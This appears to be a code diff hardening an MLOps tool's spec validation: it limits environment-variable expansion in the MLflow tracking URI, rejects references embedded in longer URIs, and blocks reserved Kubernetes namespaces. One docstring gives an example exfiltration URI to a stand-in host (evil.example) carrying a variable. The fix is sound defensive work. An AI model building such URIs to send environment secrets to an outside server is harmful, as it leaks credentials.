@@ -9,11 +9,68 @@ from pydantic import Field, field_validator, model_validator
 from .base import Name, Number, SecretRef, SpecModel, empty_dict
 
 _ENV_REF = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)(?::-([^}]*))?\}")
+# What `${VAR}` may name: the variable MLflow itself reads for its URI, and the MLOPS_ prefix for
+# the user's own. Anything else (AWS_SECRET_ACCESS_KEY, GITHUB_TOKEN) must not leave the machine
+# through a URI a pull request wrote.
+EXPANDED_VARIABLES = ("MLFLOW_TRACKING_URI",)
+EXPANDED_PREFIX = "MLOPS_"
+
+
+def may_expand(name: str) -> bool:
+    return name in EXPANDED_VARIABLES or name.startswith(EXPANDED_PREFIX)
 
 
 def expand_env(text: str) -> str:
-    """Expand `${VAR}` and `${VAR:-default}` from the process environment (only in fields marked env)."""
-    return _ENV_REF.sub(lambda m: os.environ.get(m[1]) or (m[2] if m[2] is not None else ""), text)
+    """Expand `${VAR}` and `${VAR:-default}` from the process environment, for the variables may_expand allows."""
+    return _ENV_REF.sub(lambda m: (os.environ.get(m[1]) or (m[2] if m[2] is not None else "")) if may_expand(m[1])
+                        else m[0], text)
+
+
+def env_reference_problem(text: str) -> str | None:
+    """Why `text` may not reference the environment as it does, or None.
+
+    A variable is the whole value (`${VAR}` or `${VAR:-default}`, the default without references):
+    its value then chooses the host, so a credential in it goes only where its owner pointed it. Inside
+    a longer text (`https://evil.example/?u=${MLFLOW_TRACKING_URI}`) the spec would choose where it goes.
+    """
+    if "$" not in text:
+        return None
+    whole = _ENV_REF.fullmatch(text.strip())
+    names = [m[1] for m in _ENV_REF.finditer(text)]
+    refused = [name for name in names if not may_expand(name)]
+    if refused:
+        return (f"${{{refused[0]}}} is not expanded: only ${{MLFLOW_TRACKING_URI}} and ${{MLOPS_*}} variables are, so "
+                "that a spec cannot send another variable of the machine (a token, a key) to a server")
+    if whole is None or (whole[2] is not None and "$" in whole[2]) or not names:
+        return ("a ${VAR} reference must be the whole value (`${MLFLOW_TRACKING_URI}` or "
+                "`${MLFLOW_TRACKING_URI:-sqlite:///mlruns.db}`): inside a longer URI the spec, not the variable's "
+                "owner, would choose the host its value is sent to")
+    return None
+
+
+# Namespaces a system must not take over: Kubernetes' own, and those the operators mlops targets
+# install into by default (their install manifests / Helm charts), whose pods a default-deny
+# NetworkPolicy would cut off and whose deletion on `pulumi destroy` would remove the operator.
+RESERVED_NAMESPACES = {
+    "default": "the namespace every unqualified kubectl command uses",
+    "kube-system": "Kubernetes' system namespace (and where Karpenter is installed by default)",
+    "kube-public": "Kubernetes' public namespace", "kube-node-lease": "Kubernetes' node heartbeat namespace",
+    "gpu-operator": "the NVIDIA GPU Operator's namespace", "karpenter": "Karpenter's namespace",
+    "kserve": "KServe's controller namespace", "knative-serving": "Knative Serving's namespace",
+    "knative-eventing": "Knative Eventing's namespace", "kourier-system": "Knative's Kourier ingress namespace",
+    "istio-system": "Istio's namespace (Knative and KServe ingress)", "cert-manager": "cert-manager's namespace "
+    "(KServe's webhooks need it)", "argo": "Argo Workflows' namespace", "keda": "KEDA's namespace",
+    "monitoring": "the Prometheus Operator's namespace (kube-prometheus)",
+}
+
+
+def reserved_namespace(namespace: str) -> str | None:
+    """Why `namespace` belongs to the cluster or an operator, or None when a system may own it."""
+    if namespace in RESERVED_NAMESPACES:
+        return RESERVED_NAMESPACES[namespace]
+    if namespace.startswith("kube-"):
+        return "in the kube- prefix Kubernetes reserves for its system namespaces"
+    return None
 
 
 def check_labels(labels: dict[str, str]) -> dict[str, str]:
@@ -43,6 +100,16 @@ class Metadata(SpecModel):
     owner: Name | None = Field(None, description="Owning team: becomes a label and the default alert receiver.")
     labels: dict[str, str] = Field(default_factory=empty_dict, description="Labels added to every generated resource.")
 
+    @field_validator("namespace")
+    @classmethod
+    def _own_namespace(cls, namespace: str) -> str:
+        why = reserved_namespace(namespace)
+        if why is not None:
+            raise ValueError(f"namespace {namespace!r} is {why}; mlops labels its namespace for Pod Security, puts a "
+                             "default-deny NetworkPolicy in it and (through Pulumi) owns it, deleting it on destroy. "
+                             "Use a namespace of the system's own, e.g. 'fraud-ml' or '<metadata.name>-ml'")
+        return namespace
+
     @field_validator("labels")
     @classmethod
     def _label_syntax(cls, labels: dict[str, str]) -> dict[str, str]:
@@ -51,11 +118,26 @@ class Metadata(SpecModel):
 
 class MlflowSettings(SpecModel):
     tracking_uri: str = Field("${MLFLOW_TRACKING_URI:-sqlite:///mlruns.db}",
-                              description="MLflow tracking/registry URI (env: `${VAR}` and `${VAR:-default}` "
-                                          "expand). A relative sqlite path is relative to the spec file.")
+                              description="MLflow tracking/registry URI. The whole value may be `${VAR}` or "
+                                          "`${VAR:-default}` for MLFLOW_TRACKING_URI or an MLOPS_* variable, which "
+                                          "expands from the environment (no other variable, and not inside a "
+                                          "longer text). A relative sqlite path is relative to the spec file.")
+
+    @field_validator("tracking_uri")
+    @classmethod
+    def _whole_variable(cls, uri: str) -> str:
+        problem = env_reference_problem(uri)
+        if problem is not None:
+            raise ValueError(problem)
+        return uri
 
     def resolved_tracking_uri(self) -> str:
         return expand_env(self.tracking_uri)
+
+    def variable(self) -> str | None:
+        """The environment variable the URI is, when it is one and that variable is set."""
+        whole = _ENV_REF.fullmatch(self.tracking_uri.strip())
+        return whole[1] if whole is not None and os.environ.get(whole[1]) else None
 
 
 class GpuOperator(SpecModel):
